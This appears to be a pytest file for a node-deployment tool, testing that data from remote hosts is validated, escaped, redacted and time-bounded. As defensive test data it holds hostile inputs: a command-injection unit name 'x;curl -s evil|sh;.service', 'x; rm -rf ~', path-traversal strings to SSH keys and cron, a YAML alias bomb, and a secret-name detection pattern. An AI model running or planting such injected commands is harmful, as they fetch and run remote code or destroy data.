"""What a node says is hostile until it is quoted: ids, escapes, documents, others' secrets."""

from __future__ import annotations

import json
import logging
import os
import re
import resource
from collections.abc import Callable
from itertools import pairwise
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import gevent
import pytest
from pydantic import BaseModel, ValidationError
from pyinfra.api import Config, Host, Inventory, State
from pyinfra.connectors import util

from deploys.plans import cli
from facts import node, pack
from facts.plain import BootId
from gates.core import Layer, Violation
from gates.host import nodes_reachable
from node import processes, units
from node.core import proc
from node.core.run import Done
from node.kube import inspect
from node.rules import engine, secret
from operations import rollback, run
from schema import load
from schema.artifact import BackupPlan, BackupRow, CopyOf, DisplacedRow, PruneRow, metadata_of
from schema.core import SpecError
from schema.snapshot import ChangeSummary, FormerWeights, Unreadable, Weights
from tests.unit.builders.pages import change
from tests.unit.builders.rigs import healthy, put, spark_plan

ROOT = Path(__file__).parents[3]
START = "{ path=/opt/v/bin/vllm ; argv[]=%s ; ignore_errors=no ; pid=0 ; code=(null) ; status=0/0 }"


@pytest.mark.parametrize(
    "forged", ["/home/op/.ssh/id_ed25519", "../../.ssh/id_ed25519", "20261127T1\n", "", "a" * 200]
)
def test_a_change_id_of_a_node_is_no_path_of_the_operator(forged: str) -> None:
    """The doctor joined it to its own folder and unlinked it."""
    good = json.loads(change(1, "COMMITTED").model_dump_json())
    with pytest.raises(ValidationError):
        ChangeSummary.model_validate({**good, "id": forged})


@pytest.mark.parametrize("field", ["summary", "evidence", "remedy", "cause"])
def test_no_escape_of_a_host_reaches_a_terminal(field: str) -> None:
    """A cgroup's folder may be called anything but / and a newline."""
    lines: dict[str, Any] = dict.fromkeys(("summary", "evidence", "remedy", "cause"), "plain")
    lines[field] = "x;\x1b[8m.service\nmend: \u202erm"
    found = Violation("port-taken", Layer.PROCESSES, "block", **lines)
    assert getattr(found, field) == "x;?[8m.service?mend: ?rm"


@pytest.mark.parametrize(
    "line",
    ["[" * 200_000, '{"ok": true, "size": NaN}', '{"ok": true, "size": -Infinity}', "[1]", "", "{"],
    ids=["deep", "nan", "infinity", "a list", "empty", "cut"],
)
def test_a_document_that_is_none_is_one_line(line: str) -> None:
    output = SimpleNamespace(stdout_lines=[line], stderr_lines=["\x1b]0;title\x07"])
    with pytest.raises(node.AskFailed) as raised:
        node.document_of("spark1", "snapshot", output, 5)
    assert str(raised.value).isprintable()


def test_what_a_host_said_leaves_no_escape_in_the_log_or_the_last_line() -> None:
    """A file's name, a unit's last line, an exit: all of it is logged, or said as the run ends."""
    said = "\x1b]0;title\x07\x1b[8m\x9b2J \u202eevil\r"
    line = f"\x1b[1m\x1b[91m{said}\x1b[0m"
    record = logging.LogRecord("pyinfra", logging.INFO, "", 0, line, (), None)
    assert cli.harmless(record)
    assert record.getMessage() == "\x1b[1m\x1b[91m?]0;title??[8m?2J ?evil?\x1b[0m"
    assert str(run.StepFailed("one\n\x1b[2Jtwo")) == "one\n?[2Jtwo"
    for error in (run.StepFailed(said), node.AskFailed(said)):
        assert str(error).isprintable()
    assert Unreadable(unreadable=said).unreadable.isprintable()


@pytest.mark.parametrize("kind", [
    ChangeSummary, FormerWeights, Weights, BackupRow, DisplacedRow, BackupPlan, PruneRow, CopyOf
])  # fmt: skip
def test_an_id_of_a_node_is_one(kind: type[BaseModel]) -> None:
    """It goes into paths, remedies and `--data`: no blank, no slash, no escape, no `..`."""
    (field,) = {"id", "change", "backup", "incomplete"} & set(kind.model_fields) - (
        {"change"} if "id" in kind.model_fields else set()
    )
    for forged in ("x; rm -rf ~", "../../etc/cron.d/x", "20261127T1\n", "\x1b[2Jaaaaaa"):
        with pytest.raises(ValidationError) as raised:
            kind.model_validate({field: forged})
        assert any(e["loc"] == (field,) and "pattern" in e["type"] for e in raised.value.errors())


LAUGHS = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{new}: &{new} [{', '.join([f'*{old}'] * 9)}]\n" for old, new in pairwise("abcdefg")
)


def test_a_yaml_of_an_image_or_a_neighbour_does_not_grow(tmp_path: Path) -> None:
    """304 bytes became 28 MB, nine times as much with each line."""
    with pytest.raises(ValueError, match="alias"):
        metadata_of(LAUGHS)
    with pytest.raises(ValueError, match="nested too deeply"):
        metadata_of("[" * 20_000)
    assert metadata_of("a: 0x1f\nb: {c: 41834}\nd: [x, 1]\n") == {
        "a": "0x1f", "b.c": "41834", "d": "x 1"
    }  # fmt: skip
    file = tmp_path / "recipe.yaml"
    file.write_text(LAUGHS)
    with pytest.raises(SpecError, match="grows"):
        load.read_file(file)
    file.write_text("base: &b {a: 1}\nmore: *b\n")
    assert load.read_file(file)[0] == {"base": {"a": 1}, "more": {"a": 1}}


def test_a_command_line_in_the_snapshot_is_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    """25 processes of `nobody` made 37.5 MB of it; the kernel lets one have 2 MB."""
    long = ["/usr/bin/python3", "-m", "vllm.entrypoints.openai.api_server", *["x" * 1000] * 1500]
    monkeypatch.setattr(proc, "pids", lambda: [os.getpid()])
    monkeypatch.setattr(
        proc, "read_bytes", lambda path: "\0".join(long).encode() if "cmdline" in path else b"1"
    )
    monkeypatch.setattr(proc, "environ", lambda _pid: {"VLLM_X": "y" * 1_000_000})
    monkeypatch.setattr(proc, "stat", lambda pid: proc.Stat(pid, "python3", "S", 1, 1, 5, 1))
    (row,) = processes.read_processes()
    assert sum(map(len, row["argv"])) <= 1 << 16
    assert row["argv"][:3] == long[:3]
    assert len(json.dumps(row)) < 1 << 17


def test_an_error_of_a_node_is_printable() -> None:
    said = json.dumps({"ok": False, "error": "no\x1b[2J", "remedy": "rm\r\nmend", "code": "x"})
    with pytest.raises(node.AskFailed) as raised:
        node.document_of("spark1", "apply", SimpleNamespace(stdout_lines=[said]), 5)
    assert str(raised.value) == "spark1: apply: no?[2J; rm??mend"


@pytest.mark.parametrize(
    "argv",
    [
        "/opt/v/bin/vllm serve m --api-key CANARY",
        "/opt/v/bin/vllm serve m --api-key=CANARY --hf-token CANARY",
        "/opt/v/bin/vllm serve m --ssl-keyfile-passphrase CANARY",
        "/usr/bin/env HF_TOKEN=CANARY /opt/v/bin/vllm serve m",
        "/opt/v/bin/vllm serve https://user:CANARY@host/m",
    ],
)
@pytest.mark.parametrize("step", ["ExecStart", "ExecStartPre"])
def test_other_peoples_units_keep_their_secrets(step: str, argv: str) -> None:
    row = units.unit("old.service", {step: [START % argv]})
    assert "CANARY" not in json.dumps(row)
    shown = row["exec_start"] or row["exec_start_pre"]
    assert shown


@pytest.mark.parametrize(
    "line",
    [
        "vllm serve m --api-key CANARY --port 8000",
        "VLLM_API_KEY='two words CANARY' vllm serve m",
        'docker run -e "HF_TOKEN=hf and CANARY" img vllm serve m',
        "vllm serve m --passphrase CANARY",
        "curl -H 'Authorization: Bearer CANARY' x; docker run img",
        "echo hf_CANARY | docker login && docker run img",
    ],
)
def test_scripts_of_other_peoples_units_keep_their_secrets(line: str) -> None:
    """Their words are told, since they name the container or the engine that a unit starts."""
    told = units.script_words([line])
    assert told
    assert "CANARY" not in " ".join(told)


@pytest.mark.parametrize(
    "name",
    ["DB_PASSPHRASE", "SMTP_PASS", "AWS_CREDENTIALS", "SESSION_COOKIE", "GITHUB_PAT", "PASS"],
)
def test_a_name_that_holds_a_secret(name: str) -> None:
    assert secret.SECRET_NAME.search(name)


@pytest.mark.parametrize("name", ["VLLM_COMPASS", "BYPASS", "PATH", "NCCL_PATTERN", "TORCH_PASSES"])
def test_a_name_that_holds_none(name: str) -> None:
    assert not secret.SECRET_NAME.search(name)


FROZEN = {
    "says nothing": "exec sleep 15",
    "does not end": "exec >&- 2>&-; exec sleep 15",
    "never reads what it is sent": "exec sleep 15 <&0 >/dev/null",
}


def _here() -> tuple[State, Host]:
    """This machine as a host of pyinfra's, by its own connector for processes."""
    state = State(Inventory((["@local"], {"_sudo": False})), Config())
    host = state.inventory.get_host("@local")
    state.activate_host(host)
    host.connected = True
    return state, host


@pytest.mark.parametrize(
    ("way", "how"),
    [("ask", how) for how in FROZEN]
    + [(way, "does not end") for way in ("change", "look", "fact", "stop", "new way in")],
)
def test_a_host_that_freezes_is_left_by_the_operators_own_clock(
    monkeypatch: pytest.MonkeyPatch, way: str, how: str
) -> None:
    """`timeout` on the host does not help where the host's processes are stopped, and pyinfra's own
    limit is one of reading: not of what is sent, and not of the end.
    """
    (state, host), line = _here(), FROZEN[how]
    sent = pack.Call(line, "x" * 1_000_000)
    monkeypatch.setattr(pack, "stdin_call", lambda *_: sent)
    monkeypatch.setattr(pack, "install_call", lambda *_: sent)
    for module in (node, run):
        monkeypatch.setattr(module, "bounded", lambda *_: line)
    monkeypatch.setattr(node, "LATE_S", 0)
    monkeypatch.setattr(node, "END_S", 0.2)
    monkeypatch.setattr(rollback, "UNDO_TIMEOUT_S", 1)
    monkeypatch.setattr(run, "LOOK_S", 1)
    monkeypatch.setattr(BootId, "command", lambda _self: line)
    monkeypatch.setattr(BootId, "timeout_s", 1, raising=False)
    ways: dict[str, Callable[[], object]] = {
        "ask": lambda: node.ask_node(state, host, "snapshot", {}, 1),
        "change": lambda: run.call(state, host, "apply", {}, 1),
        "look": lambda: node.lines_of(state, "@local", sent, 1),
        "fact": lambda: node.fact_of(state, host, BootId),
        "stop": lambda: rollback.stop_unit(state, "@local"),
        "new way in": lambda: run.lease_new_way_in(state, "@local"),
    }
    with gevent.Timeout(8):
        try:
            said = ways[way]()
        except (node.AskFailed, run.StepFailed) as error:
            said = str(error)
    assert said is None if way == "fact" else "no answer in " in str(said)


def test_a_host_that_floods_does_not_fill_this_machine(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(util, "read_buffer", util.read_buffer)
    monkeypatch.setattr(node, "LATE_S", 0)
    monkeypatch.setattr(node, "MAX_OUT", 1 << 20)
    node.bound_output()
    state, _ = _here()
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    said = node.lines_of(state, "@local", pack.Call("timeout 8 cat /dev/zero", ""), 2)
    assert isinstance(said, Unreadable)
    assert "no answer in" in said.unreadable
    grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert grown < 100 << 10, f"{grown >> 10} MiB of it are here"


@pytest.mark.parametrize(
    "way", [rollback.stop_unit, run.lease_new_way_in], ids=["stop", "new way in"]
)
def test_what_a_command_says_as_it_fails_is_one_line(
    monkeypatch: pytest.MonkeyPatch, way: Callable[[State, str], None]
) -> None:
    state, _ = _here()
    line = "printf 'no\\033[2J\\nmend: rm' >&2; exit 1"
    monkeypatch.setattr(run, "bounded", lambda *_: line)
    with pytest.raises(run.StepFailed) as raised:
        way(state, "@local")
    assert str(raised.value).endswith(": no?[2J?mend: rm")


def test_every_command_is_under_that_clock() -> None:
    """pyinfra's own calls stand at one place, which wants a limit."""
    own = re.compile(r"\.(run_shell_command|get_fact|get_file|put_file|rsync|connect)\(")
    found = [
        f"{path}:{number}"
        for top in ("deploys", "facts", "operations")
        for path in (ROOT / top).rglob("*.py")
        for number, text in enumerate(path.read_text().splitlines(), 1)
        if own.search(text) and f"{top}/{path.name}" not in ("facts/node.py", "operations/host.py")
    ]
    assert found == []


def test_a_pods_log_keeps_its_secrets() -> None:
    line = "INFO args: Namespace(api_key=['sk-CANARY-1234567'], model='x')\n"
    client = SimpleNamespace(run=lambda *_words: Done(0, line, ""))
    found = inspect.log_of(client, "ns", "pod", "box", False)  # type: ignore[arg-type]
    assert len(found) == 1
    assert "CANARY" not in found[0]


def test_two_names_of_one_machine_are_named_before_their_consequences() -> None:
    """It was said by a fabric address that the second one lacks: the head's netplan was edited."""
    plan = spark_plan()
    seen = healthy(plan)
    one, two = (node.name for node in plan.rig.nodes[:2])
    assert not nodes_reachable(plan, seen)
    cloned = put(seen[two], "identity.machine_id", seen[one].identity.machine_id)
    (found,) = nodes_reachable(plan, {**seen, two: cloned})
    assert found.summary == f"{one} and {two} are one machine"
    assert not nodes_reachable(plan, {**seen, two: put(cloned, "identity.boot_id", "b" * 36)})


def test_a_remedy_quotes_what_it_names() -> None:
    """A person types it with sudo; a name in a user's own cgroup is what he likes."""
    held = SimpleNamespace(unit="x;curl -s evil|sh;.service", container_id=None)
    unit = SimpleNamespace(name=held.unit, restart="no", triggered_by=["a b.timer"],
                           enabled="enabled", exec_start=(), exec_start_pre=())  # fmt: skip
    found = engine.end_ownership(held, [], [unit])
    assert found is not None
    assert found.command == "sudo systemctl stop 'x;curl -s evil|sh;.service'"
    assert "systemctl stop 'a b.timer'" in found.again
    assert "systemctl disable 'x;curl -s evil|sh;.service'" in found.again
